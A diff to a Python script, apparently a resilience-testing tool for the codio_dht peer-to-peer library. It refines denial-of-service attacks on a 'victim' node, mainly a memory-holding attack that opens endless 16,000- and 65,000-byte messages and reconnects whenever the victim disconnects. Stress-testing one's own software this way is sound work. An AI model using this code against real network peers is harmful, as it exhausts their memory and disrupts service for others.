@@ -19,7 +19,7 @@ import sys
 import tempfile
 import time
 from collections.abc import Awaitable, Callable, Sequence
-from contextlib import AsyncExitStack, suppress
+from contextlib import AsyncExitStack
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any, Final
@@ -35,6 +35,7 @@ from codio_dht.core.messages import (  # noqa: E402 - the path is set above
     GetProviders,
     PeerEntry,
 )
+from codio_dht.errors import CapacityError, StreamError  # noqa: E402
 from codio_dht.net.identify.message import IDENTIFY_PUSH  # noqa: E402
 from codio_dht.net.link import now  # noqa: E402
 from codio_dht.net.stack.channel import ChannelData, ChannelEof, ChannelReset  # noqa: E402
@@ -87,6 +88,10 @@ class Victim:
         return found
 
 
+class VictimLeftError(Exception):
+    """The victim ended a connection."""
+
+
 # --- strangers ------------------------------------------------------------------------------------
 
 
@@ -128,12 +133,17 @@ def provide(peer: RawPeer, key: bytes) -> bytes:
 
 
 async def read_all(peer: RawPeer) -> None:
-    """Read what the victim sends, so that it may go on sending."""
+    """Read what the victim sends, so that it may go on sending.
+
+    Raises:
+        VictimLeftError: it ended the connection.
+    """
     while await peer.receive():
         events, peer.events = peer.events, []
         for event in events:
             if isinstance(event, ChannelData):
                 peer.connection.streams.consume(event.channel, len(event.data))
+    raise VictimLeftError
 
 
 async def flood(source: str) -> None:
@@ -159,16 +169,22 @@ async def _ask_for_ever(peer: RawPeer) -> None:
 
 async def hold_memory(source: str) -> None:
     """Messages that never end: 65,000 bytes of a push, 16,000 of a request."""
-    async with AsyncExitStack() as stack:
+    async with AsyncExitStack() as stack, trio.open_nursery() as nursery:
         for _ in range(CONNECTIONS):
             peer = await stranger(stack, source)
-            with suppress(trio.BrokenResourceError):
-                for _ in range(125):
-                    streams = peer.connection.streams
-                    streams.open([IDENTIFY_PUSH], now(), b"\xf0\xff\x03" + bytes(65_000))
-                    streams.open([KAD_PROTOCOL], now(), b"\xf0\x7f" + bytes(16_000))
-                    await peer.flush()
-        await trio.sleep_forever()
+            nursery.start_soon(read_all, peer)
+            nursery.start_soon(_begin_messages, peer)
+
+
+async def _begin_messages(peer: RawPeer) -> None:
+    streams = peer.connection.streams
+    while True:
+        try:
+            streams.open([KAD_PROTOCOL], now(), b"\xf0\x7f" + bytes(16_000))
+            streams.open([IDENTIFY_PUSH], now(), b"\xf0\xff\x03" + bytes(65_000))
+        except CapacityError:  # so many are open: go on when the victim has acknowledged some
+            await trio.sleep(0.01)
+        await peer.flush()
 
 
 async def fill_records(source: str) -> None:
@@ -194,8 +210,10 @@ ATTACKS: Final[dict[str, Callable[[str], Awaitable[None]]]] = {
 async def persist(attack: Callable[[str], Awaitable[None]], source: str) -> None:
     """Begin again whenever the victim ends it."""
     while True:
-        with suppress(OSError, trio.BrokenResourceError, AssertionError, Exception):
+        try:
             await attack(source)
+        except* (OSError, trio.BrokenResourceError, StreamError, VictimLeftError, AssertionError):
+            pass
         await trio.sleep(0.5)
 
 
